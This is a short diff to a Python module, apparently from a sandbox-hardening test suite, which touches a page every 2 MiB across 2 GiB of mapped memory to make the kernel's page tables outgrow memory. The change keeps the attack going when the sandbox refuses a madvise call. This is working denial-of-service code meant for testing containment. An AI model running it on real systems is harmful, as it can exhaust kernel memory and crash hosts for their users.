@@ -1,6 +1,7 @@
 """Touches one page in every two megabytes, so that the kernel's tables outgrow its own memory."""
 
 import mmap
+from contextlib import suppress
 
 from matchbox.games.bomb import *
 
@@ -10,7 +11,8 @@ kept = []
 def attempt():
     if not kept:
         kept.append(mmap.mmap(-1, 2 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
-        kept[0].madvise(mmap.MADV_NOHUGEPAGE)
+        with suppress(OSError):  # The wall refuses the advice, and the attack goes on without it.
+            kept[0].madvise(mmap.MADV_NOHUGEPAGE)
         for page in range(0, 2 << 30, 2 << 20):
             kept[0][page] = 1
 
